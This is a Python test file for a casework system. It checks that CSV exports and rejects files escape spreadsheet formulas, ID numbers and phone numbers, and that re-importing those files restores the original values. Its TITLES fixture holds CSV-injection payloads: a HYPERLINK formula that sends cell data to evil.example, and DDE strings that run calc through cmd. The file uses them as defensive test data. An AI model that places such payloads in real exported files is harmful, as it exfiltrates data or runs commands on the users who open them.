"""Every CSV casework writes is safe to open in a spreadsheet (issue 17 point 5): a title such
as ``=HYPERLINK(...)`` is text, not a formula; ID numbers and phones stay text; and the import
reads casework's own files back as they were written."""

from __future__ import annotations

import csv
from pathlib import Path

from casework.api import Casework
from tests.api.test_import import MEDIATION_HEADER, MEDIATION_ROWS, _csv
from tests.helpers import VALID_ID, Cli, FrozenClock, add_staff

TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'引号开头的标题",
]


def _read(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_export_csv_marks_formulas_and_ids_and_reimports_as_written(
    cw: Casework, clock: FrozenClock, tmp_path: Path
) -> None:
    clerk = cw.acting("clerk_pz")
    for i, title in enumerate(TITLES):
        party = f"petitioner:陈某{i}:{VALID_ID}:13800138000"
        clerk.register("petition", "panzhou", title, [party], at=f"2020-05-0{i + 1}")
    out = tmp_path / "cases.csv"
    cw.acting("sup_pz").export_cases(str(out), kind="petition", reveal=True)
    rows = _read(out)
    title_at, id_at, phone_at = (rows[0].index(h) for h in ("案件标题", "身份证号", "联系电话"))
    assert [r[title_at] for r in rows[1:]] == ["'" + t for t in TITLES]
    assert {r[id_at] for r in rows[1:]} == {"'" + VALID_ID}
    assert {r[phone_at] for r in rows[1:]} == {"'13800138000"}

    copy = Casework.initialise(str(tmp_path / "copy.db"), offices="gaozhou", clock=clock)
    add_staff(copy)
    assert copy.acting("sup_pz").import_ledger("petition", str(out))["imported"] == len(TITLES)
    found = copy.acting("sup_pz").cases()
    assert sorted(c["title"] for c in found) == sorted(TITLES)
    shown = copy.acting("sup_pz").show(found[0]["case_no"], reveal=True)
    assert shown["parties"][0]["id_number"] == VALID_ID
    assert shown["parties"][0]["phone"] == "13800138000"
    copy.close()


def test_the_rejects_file_marks_formulas_and_ids(
    cw: Casework, cli: Cli, clock: FrozenClock, tmp_path: Path
) -> None:
    clock.set("2020-12-01T10:00")
    bad = list(MEDIATION_ROWS[0])
    bad[0], bad[2], bad[6] = "TJ19-201", TITLES[0], "家务事"  # not a dispute type
    ledger = _csv(tmp_path / "台账.csv", MEDIATION_HEADER, [list(MEDIATION_ROWS[1]), bad])
    result = cli("import", "mediation", str(ledger), "--skip-bad", "--json", user="sup_pz")
    assert result.exit_code == 0, result.stderr
    rejected = _read(tmp_path / "台账.rejects.csv")
    assert rejected[0][3:] == MEDIATION_HEADER
    row = rejected[1][3:]
    assert row[2] == "'" + TITLES[0]
    assert row[4] == "'" + bad[4]  # 身份证号
    assert row[5] == "'" + bad[5]  # 联系电话
    # Put right, the rejects file imports as a ledger: its marks are read away.
    fixed = [[*row[:6], "邻里", *row[7:]]]
    again = _csv(tmp_path / "改正.csv", MEDIATION_HEADER, fixed)
    assert cw.acting("sup_pz").import_ledger("mediation", str(again))["imported"] == 1
    titles = [c["title"] for c in cw.acting("sup_pz").cases(kind="mediation")]
    assert TITLES[0] in titles
